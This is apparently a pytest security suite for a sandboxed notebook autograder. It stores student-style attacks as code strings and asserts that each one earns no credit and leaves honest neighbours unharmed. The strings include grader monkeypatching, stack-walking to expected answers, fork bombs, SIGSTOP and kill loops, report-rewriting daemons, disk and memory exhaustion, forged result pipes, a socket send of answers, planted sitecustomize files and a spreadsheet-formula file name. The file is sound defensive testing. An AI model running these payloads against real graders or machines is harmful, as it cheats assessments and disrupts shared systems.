"""Every attack on the grader (issues 20 and 29), written as a student would, and what it earns.

Each submission starts from an instructor notebook with every exercise unsolved (honest score
0) or solved (full marks) and adds the attack in an exercise cell or in an extra cell. The
attacks are graded in one batch (two runs at a time) with an honest neighbour after each, as an
instructor would grade a class; those that need a batch of their own (a CPU hog, the grader's
memory, file names, a broken environment) come last. Needs bubblewrap, and root or unprivileged
user namespaces; ``make test-grader-security`` runs this file (``.ci/run`` too, also as an
ordinary user).
"""

import contextlib
import io
import json
import os
import socket
import subprocess
import sys
import threading
import time

import nbformat
import pytest
from grading_support import (
    FORK_BOMB,
    KILL_THE_GRADER,
    MAX,
    NAME,
    NOTEBOOKS,
    SOURCE,
    STUB,
    UNSOLVED,
    by_function,
    grade_all,
    submission,
)

from helpers.course import grade, sandbox

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("needs_sandbox")]

# name -> (exercise cells replaced, extra cells, expected score)
ATTACKS = {
    "replace the grader's report_check": (
        {"softmax": "import helpers.course.grade as g\ng.report_check = lambda *a: None\n" + STUB},
        ["import helpers.course.grade as g\ng.report_check = lambda *a, **k: print('passed')"],
        0,
    ),
    "make np.allclose and math.isclose always true": (
        {
            "softmax": "import math\nnp.allclose = lambda *a, **k: True\n"
            "math.isclose = lambda *a, **k: True\nnp.array_equal = lambda *a: True\n" + STUB
        },
        [],
        0,
    ),
    "patch builtins the checker calls": (
        {
            "softmax": "import builtins\nbuiltins.isinstance = lambda *a: True\n"
            "builtins.abs = lambda x: 0\n" + STUB
        },
        [],
        0,
    ),
    "an ndarray subclass that equals everything": (
        {
            "softmax": "class Yes(np.ndarray):\n    def __eq__(self, other):\n        return True\n"
            "    def __array_function__(self, *a, **k):\n        return True\n"
            "def softmax(Z):\n    return np.zeros_like(Z).view(Yes)"
        },
        [],
        0,
    ),
    "walk the stack to the checker's expected value": (
        {
            "softmax": "import inspect\ndef softmax(Z):\n"
            "    for frame in inspect.stack():\n"
            "        for name in ('expected', 'want', 'W_want'):\n"
            "            if name in frame.frame.f_locals:\n"
            "                return frame.frame.f_locals[name]\n"
            "    return np.zeros_like(Z)"
        },
        [],
        0,
    ),
    "an IPython input transformer rewriting the check cell": (
        {
            "softmax": "get_ipython().input_transformers_cleanup.append(\n"
            "    lambda lines: ['pass\\n'])\n" + STUB
        },
        ["get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"],
        0,
    ),
    "a sys.meta_path finder serving fake checks": (
        {
            "softmax": "import sys, types, importlib.abc, importlib.machinery\n"
            "class Fake(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
            "    def find_spec(self, name, path, target=None):\n"
            "        if name.startswith('helpers.checks'):\n"
            "            return importlib.machinery.ModuleSpec(name, self)\n"
            "    def create_module(self, spec):\n"
            "        return types.ModuleType(spec.name)\n"
            "    def exec_module(self, module):\n"
            "        module.observe = lambda *a, **k: {'result': True}\n"
            "sys.meta_path.insert(0, Fake())\n"
            "for name in [n for n in sys.modules if n.startswith('helpers.checks')]:\n"
            "    del sys.modules[name]\n" + STUB
        },
        [],
        0,
    ),
    "patch the reference module the checks compare with": (
        {
            "softmax": "import helpers.softmax\n"
            "helpers.softmax.softmax = lambda Z: np.zeros_like(Z)\n" + STUB
        },
        [],
        0,
    ),
    "call the course's reference": (
        {
            "softmax": "from helpers.softmax import softmax",
            "one_hot": "from helpers.softmax import one_hot",
            "cross_entropy_cost": "from helpers import softmax as s\ncross_entropy_cost = "
            "s.cross_entropy_cost",
            "softmax_regression_step": "from helpers.softmax import softmax_regression_step",
        },
        [],
        0,
    ),
    "copy the solution out of the instructor's notebook": (
        {
            "softmax": "import json, pathlib, helpers\n"
            "path = pathlib.Path(helpers.__file__).parents[1] / 'notebooks' / "
            "'05_softmax_regression.ipynb'\n"
            "for cell in json.loads(path.read_text())['cells']:\n"
            "    if cell['metadata'].get('nbgrader', {}).get('grade_id') == 'softmax':\n"
            "        exec(''.join(cell['source']))"
        },
        [],
        0,
    ),
    "copy a classmate's answer from the submissions folder": (
        {
            "softmax": "import glob, json, os\n"
            "places = ['/tmp', '/work', '/home', '/root', os.getcwd() + '/../../..']\n"
            "paths = [p for place in places for depth in ('/*', '/*/*', '/*/*/*')\n"
            "         for p in glob.glob(place + depth + '/05_*.ipynb')]\n"
            "for path in paths:\n"
            "    for cell in json.load(open(path))['cells']:\n"
            "        if cell['metadata'].get('nbgrader', {}).get('grade_id') == 'softmax':\n"
            "            exec(''.join(cell['source']))\n"
            "if 'softmax' not in globals():\n"
            "    def softmax(Z):\n"
            "        return np.zeros_like(Z)\n"
        },
        [],
        0,
    ),
    "a solved 02 handed in as 05": ({}, [], 0),  # built from another notebook below
    "a loop that swallows interrupts in an extra cell": (
        {},
        ["import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"],
        MAX,  # honest work, an ungraded cell: not run at all
    ),
}

# Attacks on the machine and on other students: the attacker's own softmax cell does the harm
# and then defines a wrong softmax; the victim after it is honest and solved (8/8).
SABOTAGE = {
    "rewrite helpers.checks for the next submission": (
        "import helpers.checks.probes as p\n"
        "try:\n"
        "    with open(p.__file__, 'a') as f:\n"
        "        f.write('\\ndef observe(*a, **k):\\n    return {\\'result\\': None}\\n')\n"
        "except OSError:\n"
        "    pass\n"
    ),
    "plant files for the neighbour": (
        "import os, pathlib, site, helpers\n"
        "places = ['.', '..', '/tmp', os.path.expanduser('~'), os.path.dirname(helpers.__file__),\n"
        "          *site.getsitepackages()]\n"
        "for folder in places:\n"
        "    for name in ('numpy.py', 'sitecustomize.py', 'usercustomize.py'):\n"
        "        try:\n"
        "            pathlib.Path(folder, name).write_text('raise SystemExit')\n"
        "        except OSError:\n"
        "            pass\n"
    ),
    "kill the grader": KILL_THE_GRADER,
    "freeze the grader with SIGSTOP": (
        "import os, signal\n"
        "for pid in range(1, 4096):\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGSTOP) if pid != os.getpid() else None\n"
        "    except OSError:\n"
        "        pass\n"
    ),
    "a daemon that stops the exercises after it": (
        "import os, signal, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    time.sleep(2)\n"
        "    while True:\n"
        "        try:\n"
        "            os.kill(-1, signal.SIGSTOP)\n"
        "        except OSError:\n"
        "            pass\n"
        "        time.sleep(0.01)\n"
    ),
    "a fork bomb": FORK_BOMB,
    "print without end": (
        "import sys\nchunk = 'x' * 1_000_000\nfor _ in range(1000):\n    sys.stdout.write(chunk)\n"
    ),
    # These two earn softmax's points if the limit they run into is missing.
    "fill /tmp": (
        "chunk, written = b'x' * 2 ** 24, 0\n"
        "for i in range(64):\n"
        "    try:\n"
        "        with open(f'/tmp/fill{i}', 'wb') as f:\n"
        "            f.write(chunk)\n"
        "        written += len(chunk)\n"
        "    except OSError:\n"
        "        break\n"
        "if written > 300 * 2 ** 20:\n"
        "    def softmax(Z):\n"
        "        T = np.exp(Z - Z.max(axis=0))\n"
        "        return T / T.sum(axis=0)\n"
    ),
    "take all the memory": (
        "hog = []\nfor _ in range(64):\n    hog.append(bytearray(1024 ** 3))\n"
    ),
}


def _daemon(target):
    """A double fork that outlives its cell and rewrites ``target`` a few seconds later."""
    return (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        time.sleep(4)\n"
        f"        open({str(target)!r}, 'w').write('{{\"score\": 8}}')\n"
        "        os._exit(0)\n"
        "    os._exit(0)\n"
    )


def _phone_home(port):
    return (
        "import socket\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'answers')\n"
        "except OSError:\n"
        "    pass\n"
    )


# ---- issue 29: eleven more ways through, each graded beside an honest neighbour ---------------

# The student's process writes what it likes into the pipe its results go through (it is the
# same process), then leaves: only the hidden cases' expected values, never sent, stop it.
FORGE = (
    "import json, os, sys\n"
    "def _forge(data):\n"
    "    blob = json.dumps(data).encode()\n"
    "    for fd in os.listdir('/proc/self/fd'):\n"
    "        try:\n"
    "            os.write(int(fd), blob) if int(fd) > 2 else None\n"
    "        except OSError:\n"
    "            pass\n"
    "    os._exit(0)\n"
)
# What the old runner read from files in its directory: written anyway, read by nobody.
OLD_FILES = (
    "import os\n"
    "os.makedirs('status.json.tmp', exist_ok=True)\n"
    "open('status.json', 'w').write(\n"
    '    \'{"exercises": [{"seconds": NaN, "status": Infinity}]}\')\n'
)
SOLVED_SOFTMAX = (
    "def softmax(Z):\n    T = np.exp(Z - Z.max(axis=0, keepdims=True))\n"
    "    return T / T.sum(axis=0, keepdims=True)\n"
)


def _lookup_softmax() -> str:
    """Finding 4: the public cases' answers pasted as a table keyed on round(Z.sum(), 3)."""
    from helpers import softmax as reference
    from helpers.checks import EXERCISES

    table = {
        round(float(case.args[0].sum()), 3): reference.softmax(case.args[0]).tolist()
        for case in EXERCISES["softmax"].cases().cases
    }
    return f"_T = {table!r}\ndef softmax(Z):\n    return np.array(_T[round(float(Z.sum()), 3)])\n"


BUILD_MODEL_FORGER = FORGE + (
    "frame, cases = sys._getframe(0), []\n"
    "while frame is not None:\n"
    "    if isinstance(frame.f_locals.get('exercise'), dict):\n"
    "        cases = frame.f_locals['exercise']['cases']\n"
    "    frame = frame.f_back\n"
    "def _layers(request):\n"
    "    args = request['args']['$tuple']\n"
    "    units = [128, 128] if not args else args[0]['$tuple']\n"
    "    names = []\n"
    "    for n in units:\n"
    "        names += [f'Dense({n}, no bias)', 'BatchNormalization', 'ReLU']\n"
    "    return names + ['Dense(10)']\n"
    "_forge({'cell_error': None, 'found': True, 'observations': [\n"
    "    {'result': {'$unsupported': 'keras.src.models.sequential.Sequential'},\n"
    "     'args_after': r['args'], 'recorded': [],\n"
    "     'probe': {'$dict': [['layers', _layers(r)], ['compiled', False],\n"
    "                         ['output_shape', [5, 10]]]}}\n"
    "    for r in cases]})\n"
)
SCAVENGER = (  # finding 2: any file of the run holding a function's source is executed
    "import glob, json\n"
    "def _sources(value):\n"
    "    if isinstance(value, str):\n"
    "        yield value\n"
    "    elif isinstance(value, dict):\n"
    "        for v in value.values():\n"
    "            yield from _sources(v)\n"
    "    elif isinstance(value, list):\n"
    "        for v in value:\n"
    "            yield from _sources(v)\n"
    "for path in glob.glob('/grading/**', recursive=True) + glob.glob('/tmp/**', recursive=True):\n"
    "    try:\n"
    "        data = json.load(open(path))\n"
    "    except Exception:\n"
    "        continue\n"
    "    for text in _sources(data):\n"
    "        if 'def {name}(' in text:\n"
    "            exec(text.replace('raise NotImplementedError()', 'pass'))\n"
    "if '{name}' not in globals():\n"
    "    def {name}(*args):\n"
    "        raise NotImplementedError()\n"
)
BY_HAND_STEP = (  # finding 2: gradcheck on the stand-ins
    "from helpers.gradcheck import numerical_gradient\n"
    "def softmax_regression_step(W, b, X, Y, learning_rate):\n"
    "    cost = lambda W_, b_: cross_entropy_cost(softmax(W_ @ X + b_), Y)\n"
    "    dW = numerical_gradient(lambda w: cost(w, b), W.copy())\n"
    "    db = numerical_gradient(lambda v: cost(W, v), b.copy())\n"
    "    return W - learning_rate * dW, b - learning_rate * db, cost(W, b)\n"
)
TRAINER_STEP = (  # finding 2: the lesson's trainer takes the step, reached through a stand-in
    "def softmax_regression_step(W, b, X, Y, learning_rate):\n"
    "    trainer = softmax.__globals__.get('train_softmax_regression')\n"
    "    if trainer is None:\n"
    "        import helpers.softmax\n"
    "        trainer = helpers.softmax.train_softmax_regression\n"
    "    labels = Y.argmax(axis=0)\n"
    "    run = trainer(X, labels, X, labels, learning_rate=learning_rate, epochs=1,\n"
    "                  batch_size=X.shape[1], rng=np.random.default_rng(0), start=(W, b))\n"
    "    return run['W'], run['b'], cross_entropy_cost(softmax(W @ X + b), Y)\n"
)
PASTED_SOURCE = "import inspect, helpers.softmax\nexec(inspect.getsource(helpers.softmax))\n"
HOG = (  # finding 5: spinners in their own sessions, the cell waiting for them
    "import os, time\n"
    "for _ in range(120):\n"
    "    try:\n"
    "        if os.fork() == 0:\n"
    "            os.setsid()\n"
    "            while True:\n"
    "                pass\n"
    "    except OSError:\n"
    "        break\n"
    "time.sleep(120)\n"
)


def _nb(name):
    return NOTEBOOKS / f"{name}.ipynb"


def _other(folder, notebook, **replace):
    """A submission of another notebook than 05, named after it."""
    return submission(folder, name=f"{notebook}.ipynb", source=_nb(notebook), **replace)


def _duplicated_softmax(folder):
    """Finding 7: the exercise cell copied (JupyterLab keeps its metadata); the copy solved and
    run last, the original left unsolved."""
    path = submission(folder, softmax=UNSOLVED["softmax"])
    nb = nbformat.read(path, as_version=4)
    original = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") ==
                    "softmax")  # fmt: skip
    original.execution_count = 3
    copy = nbformat.v4.new_code_cell(SOLVED_SOFTMAX, metadata=dict(original.metadata))
    copy.execution_count = 12
    nb.cells.append(copy)
    nbformat.write(nb, path)
    return path


def _malformed_metadata(folder):
    """Finding 1: nbgrader metadata a string, null, a grade_id that is a list."""
    path = submission(folder)
    nb = json.loads(path.read_text())
    for cell in nb["cells"]:
        grade_id = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if grade_id == "softmax":
            cell["metadata"]["nbgrader"] = "softmax"
        elif grade_id == "one_hot":
            cell["metadata"]["nbgrader"] = None
        elif grade_id == "cross_entropy_cost":
            cell["metadata"]["nbgrader"]["grade_id"] = ["cross_entropy_cost"]
    path.write_text(json.dumps(nb))
    return path


def _huge(folder):
    """Finding 10: 100,000 cells, 15 MB."""
    folder.mkdir(parents=True, exist_ok=True)
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
            "source": "x" * 60}  # fmt: skip
    path = folder / NAME
    path.write_text(json.dumps({"cells": [cell] * 100_000, "metadata": {}, "nbformat": 4,
                                "nbformat_minor": 5}))  # fmt: skip
    return path


# name -> (how to build it: a function of its folder, expected score, the victim's notebook);
# None as the score: not graded, with a reason.
FINDINGS = {
    "1: nbgrader metadata a string, null, a list": (
        _malformed_metadata,
        3.0,
        "05_softmax_regression",
    ),
    "1: softmax sets Z.dtype = 'V8' and returns 0": (
        lambda f: submission(f, softmax="def softmax(Z):\n    Z.dtype = 'V8'\n    return 0"),
        MAX - 2,
        "05_softmax_regression",
    ),
    "1: grid_search writes ranges[0] = 0": (
        lambda f: _other(
            f,
            "01_tuning_process",
            grid_search=(
                "def grid_search(objective, ranges, n_per_axis):\n    ranges[0] = 0\n    return []"
            ),
        ),
        4.0,
        "01_tuning_process",
    ),
    "1: a 70-dimensional array in its own result": (
        lambda f: submission(
            f,
            softmax=FORGE
            + OLD_FILES.replace("status.json", "exercise-0.json")
            + "_forge({'cell_error': None, 'found': True, 'observations': ["
            "{'result': {'$array': '', 'dtype': '<f8', 'shape': [0] * 70}}] * 8})",
        ),
        MAX - 2,
        "05_softmax_regression",
    ),
    "2: execute any function source found in the run's files": (
        lambda f: submission(f, **{n: SCAVENGER.replace("{name}", n) for n in UNSOLVED}),
        0.0,
        "05_softmax_regression",
    ),
    "2: the checks' by-hand helpers and gradcheck (05)": (
        lambda f: submission(
            f,
            **{
                **UNSOLVED,
                "softmax": "from helpers.checks.softmax import _softmax_by_hand as softmax",
                "cross_entropy_cost": "from helpers.checks.softmax import _cost_by_hand as "
                "cross_entropy_cost",
                "softmax_regression_step": BY_HAND_STEP,
            },
        ),
        0.0,
        "05_softmax_regression",
    ),
    "2: the lesson's trainer through a stand-in's globals": (
        lambda f: submission(f, **{**UNSOLVED, "softmax_regression_step": TRAINER_STEP}),
        0.0,
        "05_softmax_regression",
    ),
    "2: inspect.getsource of the installed references pasted": (
        lambda f: submission(f, **{n: PASTED_SOURCE for n in UNSOLVED}),
        0.0,
        "05_softmax_regression",
    ),
    "2: the by-hand batch norm at test time (04)": (
        lambda f: _other(
            f,
            "04_batchnorm_test_time",
            update_running_averages="def update_running_averages(*a):\n    raise ValueError",
            batchnorm_inference="from helpers.checks.batchnorm import _normalized_by_hand\n"
            "def batchnorm_inference(Z, gamma, beta, running_mu, running_var, eps=1e-8):\n"
            "    return _normalized_by_hand(Z, gamma, beta, eps, running_mu, running_var)\n",
        ),
        0.0,
        "04_batchnorm_test_time",
    ),
    "2: gradcheck on the reference forward pass (03)": (
        lambda f: _other(
            f,
            "03_batchnorm_from_scratch",
            batchnorm_forward="def batchnorm_forward(*a):\n    raise NotImplementedError()",
            batchnorm_backward="from helpers.gradcheck import numerical_gradient\n"
            "from helpers.batchnorm import batchnorm_forward as forward\n"
            "def batchnorm_backward(dZ_tilde, cache):\n"
            "    Z, _, _, _, gamma, eps = cache\n"
            "    beta = np.zeros_like(gamma)\n"
            "    J = lambda z, g, b: float(np.sum(dZ_tilde * forward(z, g, b, eps)[0]))\n"
            "    return (numerical_gradient(lambda z: J(z, gamma, beta), Z.copy()),\n"
            "            numerical_gradient(lambda g: J(Z, g, beta), gamma.copy()),\n"
            "            numerical_gradient(lambda b: J(Z, gamma, b), beta.copy()))\n",
        ),
        0.0,
        "03_batchnorm_from_scratch",
    ),
    "2: gradient descent by hand from the checks (06)": (
        lambda f: _other(
            f,
            "06_tensorflow_quadratic",
            quadratic_cost="def quadratic_cost(w, c):\n    raise NotImplementedError()",
            minimize_quadratic="from helpers.checks.tf_quadratic import "
            "_gradient_descent_by_hand as minimize_quadratic",
        ),
        0.0,
        "06_tensorflow_quadratic",
    ),
    "2: Hyperparameter.suggest of the search space (08)": (
        lambda f: _other(
            f,
            "08_tuning_in_practice",
            suggest_hyperparameters=(
                "from helpers.tuning import SEARCH_SPACE\n"
                "suggest_hyperparameters = lambda trial: {h.name: h.suggest(trial) "
                "for h in SEARCH_SPACE}"
            ),
        ),
        0.0,
        "08_tuning_in_practice",
    ),
    "3: build_model forges its probe data and builds nothing (07)": (
        lambda f: _other(
            f,
            "07_tensorflow_digits",
            build_model=BUILD_MODEL_FORGER,
            compute_total_loss="def compute_total_loss(*a):\n    raise NotImplementedError()",
            train_step="def train_step(*a):\n    raise NotImplementedError()",
        ),
        0.0,
        "07_tensorflow_digits",
    ),
    "4: a lookup table of the public cases": (
        lambda f: submission(f, softmax=_lookup_softmax()),
        MAX - 2,
        "05_softmax_regression",
    ),
    "6: a 60 MB result": (
        lambda f: submission(
            f,
            softmax=FORGE.replace("json.dumps(data).encode()", "data")
            + "_forge(b'[' + b'[],' * 20_000_000 + b'[]]')",
        ),
        MAX - 2,
        "05_softmax_regression",
    ),
    "7: the exercise cell copied, the copy solved and run last": (
        _duplicated_softmax,
        MAX,
        "05_softmax_regression",
    ),
    "7: np.matrix and a nested list": (
        lambda f: submission(
            f,
            softmax=SOLVED_SOFTMAX + "_plain = softmax\nsoftmax = lambda Z: np.matrix(_plain(Z))",
            one_hot="def one_hot(labels, C):\n"
            "    if np.any((labels < 0) | (labels >= C)):\n"
            "        raise ValueError('label out of range')\n"
            "    return np.eye(C)[:, labels].tolist()",
        ),
        MAX,
        "05_softmax_regression",
    ),
    "9: NaN and Infinity in its results and its old status file": (
        lambda f: submission(
            f,
            softmax=FORGE + OLD_FILES + "_forge({'cell_error': None, 'found':"
            " True, 'observations': [{'result': float('nan')}] * 8})",
        ),
        MAX - 2,
        "05_softmax_regression",
    ),
    "10: 100,000 cells, 15 MB": (_huge, None, "05_softmax_regression"),
}
FULL = {"01_tuning_process": 6.0, "03_batchnorm_from_scratch": 5.0, "04_batchnorm_test_time": 3.0,
        "05_softmax_regression": MAX, "06_tensorflow_quadratic": 3.0,
        "07_tensorflow_digits": 5.0, "08_tuning_in_practice": 2.0}  # fmt: skip


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """Grade every attack and every victim in one batch; return reports by name."""
    root = tmp_path_factory.mktemp("class")
    report_path = root / "report.json"
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.5)
    received = []

    def listen():
        end = time.monotonic() + 600
        while time.monotonic() < end and not stop.is_set():
            try:
                received.append(listener.accept())
            except TimeoutError:
                continue

    stop = threading.Event()
    threading.Thread(target=listen, daemon=True).start()
    paths, names = [], []
    for i, (name, (replace, extra, _)) in enumerate(ATTACKS.items()):
        folder = root / f"attack{i:02d}"
        if name == "a solved 02 handed in as 05":
            path = submission(folder, source=SOURCE.with_name("02_appropriate_scale.ipynb"))
        else:
            path = submission(folder, extra=extra, **{**UNSOLVED, **replace})
            if not replace:  # honest solved work plus the extra cell
                path = submission(folder, extra=extra)
        paths.append(path)
        names.append(name)
    extra_attacks = {
        **SABOTAGE,
        "a daemon rewriting the report": _daemon(report_path),
        "send the answers over the network": _phone_home(listener.getsockname()[1]),
    }
    for i, (name, code) in enumerate(extra_attacks.items()):
        paths.append(submission(root / f"sabotage{i:02d}", softmax=STUB + code))
        names.append(name)
        paths.append(submission(root / f"victim{i:02d}"))
        names.append(f"victim of {name}")
    for i, (name, (build, _, victim)) in enumerate(FINDINGS.items()):
        paths.append(build(root / f"finding{i:02d}"))
        names.append(name)
        paths.append(_other(root / f"neighbour{i:02d}", victim))
        names.append(f"neighbour of {name}")
    started = time.monotonic()
    errors = io.StringIO()
    with contextlib.redirect_stderr(errors):
        code = grade.main([*map(str, paths), "--jobs", "2", "--json", str(report_path)])
    seconds = time.monotonic() - started
    sys.stderr.write(errors.getvalue())
    if not report_path.exists():  # refused or a self-test fault: say why, once, not per test
        pytest.fail(f"the grader wrote no report (exit status {code}): {errors.getvalue()[-3000:]}")
    written = report_path.read_text()
    time.sleep(6)  # longer than the daemon waits
    stop.set()

    def no_constants(name):
        raise ValueError(f"{name} in the report: not strict JSON")

    reports = json.loads(report_path.read_text(), parse_constant=no_constants)
    return {
        "by_name": dict(zip(names, reports, strict=True)),
        "exit": code,
        "report_unchanged": report_path.read_text() == written,
        "received": received,
        "seconds": seconds,
    }


@pytest.mark.parametrize("name", list(ATTACKS))
def test_an_attack_earns_only_what_the_work_is_worth(graded, name):
    report = graded["by_name"][name]
    assert report["graded"], report["notes"]
    assert report["score"] == ATTACKS[name][2], json.dumps(report, indent=1)[:3000]


@pytest.mark.parametrize("name", [*SABOTAGE, "a daemon rewriting the report"])
def test_sabotage_costs_the_saboteur_and_spares_the_neighbour(graded, name):
    attacker = graded["by_name"][name]
    victim = graded["by_name"][f"victim of {name}"]
    assert not by_function(attacker)["softmax"]["passed"]
    assert attacker["score"] == MAX - 2, json.dumps(attacker, indent=1)[:3000]
    assert victim["score"] == MAX, json.dumps(victim, indent=1)[:3000]


def test_the_batch_finishes_with_every_report_intact(graded):
    ungraded = [name for name, r in graded["by_name"].items() if not r["graded"]]
    assert ungraded == ["10: 100,000 cells, 15 MB"]
    assert graded["exit"] == 1  # some could not be graded: the reports say why
    assert graded["report_unchanged"], "something rewrote the report after the grader wrote it"
    expected = len(ATTACKS) + 2 * (len(SABOTAGE) + 2) + 2 * len(FINDINGS)
    assert len(graded["by_name"]) == expected


@pytest.mark.parametrize("name", list(FINDINGS))
def test_each_finding_of_issue_29_earns_what_the_work_is_worth_beside_a_full_neighbour(
    graded, name
):
    report = graded["by_name"][name]
    neighbour = graded["by_name"][f"neighbour of {name}"]
    expected = FINDINGS[name][1]
    if expected is None:
        assert not report["graded"] and report["exercises"] == [] and report["notes"]
    else:
        assert report["graded"], report["notes"]
        assert report["score"] == expected, json.dumps(report, indent=1)[:3000]
    assert neighbour["score"] == FULL[FINDINGS[name][2]], json.dumps(neighbour, indent=1)[:2000]
    print(f"{name}: {report['score']:g}/{report['max_score']:g}, neighbour "
          f"{neighbour['score']:g}/{neighbour['max_score']:g}")  # fmt: skip


def test_what_the_findings_are_told(graded):
    by = graded["by_name"]
    assert "5000" in by["10: 100,000 cells, 15 MB"]["notes"][0]
    assert "more than 1 MB" in by_function(by["6: a 60 MB result"])["softmax"]["feedback"]
    assert "run last" in " ".join(by["7: the exercise cell copied, the copy solved and run last"]
                                  ["notes"])  # fmt: skip
    malformed = by["1: nbgrader metadata a string, null, a list"]["notes"]
    assert sum("malformed" in note for note in malformed) == 3
    lookup = by_function(by["4: a lookup table of the public cases"])["softmax"]
    assert lookup["cases"] and all(c["passed"] for c in lookup["cases"])  # public: fooled
    assert lookup["hidden_cases"]["passed"] == 0  # hidden: not
    assert 'hidden case "' in lookup["feedback"]
    forged = by_function(by["3: build_model forges its probe data and builds nothing (07)"])
    assert forged["build_model"]["hidden_cases"]["passed"] == 0
    for report in by.values():  # no internal class name reaches a student
        for exercise in report["exercises"]:
            assert "TensorValue" not in exercise["feedback"]
            assert "got Unsupported" not in exercise["feedback"]


def test_nothing_reaches_the_network(graded):
    assert graded["received"] == []
    assert graded["by_name"]["send the answers over the network"]["score"] == MAX - 2


def test_no_process_of_a_run_outlives_it(graded):
    leftovers = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            command = open(f"/proc/{pid}/cmdline", "rb").read()
            uid = int(open(f"/proc/{pid}/status").read().split("Uid:")[1].split()[0])
        except (OSError, IndexError):
            continue
        if b"helpers.course.runner" in command or sandbox.FIRST_UID <= uid < sandbox.FIRST_UID + 64:
            leftovers.append(pid)
    assert leftovers == []


def test_a_student_never_sees_the_grader_environment(tmp_path):
    secret = "GRADER_SECRET_TOKEN"
    os.environ[secret] = "hunter2"
    try:
        code = (
            "import os\n"
            "def one_hot(labels, C):\n"
            f"    if os.environ.get({secret!r}) or os.path.exists('/work/shared'):\n"
            "        import numpy as np\n"
            "        return np.eye(C)[:, labels]\n"
            "    raise ValueError('sealed')\n"
        )
        (report,) = grade_all(submission(tmp_path, one_hot=code))
    finally:
        del os.environ[secret]
    assert not by_function(report)["one_hot"]["passed"]
    assert "sealed" in by_function(report)["one_hot"]["feedback"]


def test_a_submission_not_named_after_an_assignment_is_not_graded(tmp_path):
    path = submission(tmp_path, name="my_homework.ipynb")
    assert grade.main([str(path)]) == 1
    assert NAME.startswith("05_")


# ---- issue 29, findings graded in batches of their own ---------------------------------------


@pytest.mark.parametrize("batch", range(5))
def test_5_a_cpu_hog_leaves_its_neighbour_full_marks(tmp_path, batch):
    hog = submission(tmp_path / "hog", softmax=STUB + HOG)
    neighbour = _other(tmp_path / "neighbour", "06_tensorflow_quadratic")
    limits = sandbox.Limits(cpu_seconds=20)
    attacker, victim = grade_all(hog, neighbour, limits=limits, jobs=2)
    assert by_function(attacker)["softmax"]["status"] == "timeout", attacker
    assert attacker["score"] == MAX - 2
    assert victim["score"] == 3.0, json.dumps(victim, indent=1)[:2000]


def test_6_a_60_mb_result_leaves_the_grader_under_500_mb(tmp_path):
    attack = FINDINGS["6: a 60 MB result"][0](tmp_path / "attack")
    neighbour = submission(tmp_path / "neighbour")
    # the grader in a process of its own, its peak memory (and its children's) from wait4
    code = (
        "import os, sys\n"
        "pid = os.fork()\n"
        "if pid == 0:\n"
        "    argv = [sys.executable, '-m', 'helpers.course.grade', *sys.argv[1:]]\n"
        "    os.execv(sys.executable, argv)\n"
        "_, status, usage = os.wait4(pid, 0)\n"
        "print(os.waitstatus_to_exitcode(status), usage.ru_maxrss)\n"
    )
    out = tmp_path / "r.json"
    done = subprocess.run(
        [sys.executable, "-c", code, str(attack), str(neighbour), "--json", str(out)],
        capture_output=True, text=True, check=True, timeout=600,
    )  # fmt: skip
    status, peak_kb = map(int, done.stdout.split()[-2:])
    reports = json.loads(out.read_text())
    assert status == 0 and [r["score"] for r in reports] == [MAX - 2, MAX]
    assert peak_kb < 500 * 1024, f"peak resident memory {peak_kb / 1024:.0f} MB"
    print(f"grader's peak resident memory: {peak_kb / 1024:.0f} MB")


def test_8_names_cannot_forge_the_table_or_a_spreadsheet_formula(tmp_path, monkeypatch, capsys):
    formula = '=HYPERLINK(CONCATENATE("http:",A1),"regrade").ipynb'
    newline = "me\n  total 8/8\nx.ipynb"
    paths = [submission(tmp_path, name=name) for name in (formula, newline)]
    paths.append(submission(tmp_path / "neighbour"))
    monkeypatch.chdir(tmp_path)
    argv = [formula, newline, str(paths[2]), "--assignment", "05_softmax_regression",
            "--gradebook", "grades.csv", "--json", "r.json"]  # fmt: skip
    assert grade.main(argv) == 0
    table = capsys.readouterr().out
    assert [line for line in table.splitlines() if line.startswith("  total")] == [
        "  total 8/8"
    ] * 3
    assert "me\\x0a  total 8/8\\x0ax.ipynb" in table
    rows = (tmp_path / "grades.csv").read_text().splitlines()
    assert rows[1].startswith("\"'=HYPERLINK(") and rows[2].startswith("me\\x0a")
    assert [r["score"] for r in json.loads((tmp_path / "r.json").read_text())] == [MAX] * 3


def test_11_a_sandbox_that_cannot_import_helpers_stops_the_batch_with_status_3(
    tmp_path, monkeypatch, capfd
):
    # The package copy is mounted where the sandbox's Python does not look for helpers (what a
    # venv re-pointed at a checkout the sandbox does not mount did): no student gets a zero.
    monkeypatch.setattr(sandbox, "mount_dir", lambda: tmp_path / "elsewhere" / "helpers")
    monkeypatch.setenv("DNN_WEEK3_GRADER_CACHE", str(tmp_path / "cache"))
    paths = [submission(tmp_path / "a"), submission(tmp_path / "b", **UNSOLVED)]
    out = tmp_path / "r.json"
    assert grade.main([*map(str, paths), "--json", str(out)]) == 3
    err = capfd.readouterr().err
    assert "grader fault: the grader's self-test failed" in err
    assert "cannot import helpers" in err and "No module named 'helpers'" in err
    assert not out.exists()  # no report at all, so no zero for anyone
